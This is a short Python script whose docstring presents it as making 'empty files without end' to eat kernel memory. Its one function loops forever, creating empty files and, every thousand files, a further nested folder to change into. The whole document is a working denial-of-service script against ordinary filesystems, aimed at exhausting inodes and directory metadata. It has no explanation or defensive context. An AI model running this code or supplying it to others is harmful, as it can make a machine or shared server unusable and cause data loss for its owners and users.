"""Empty files without end: no bytes, but memory of the kernel."""

import os


def run_code():
    number = 0
    while True:
        if number % 1000 == 0:
            os.mkdir(f"folder-{number}")
            os.chdir(f"folder-{number}")
        open(str(number), "wb").close()
        number += 1
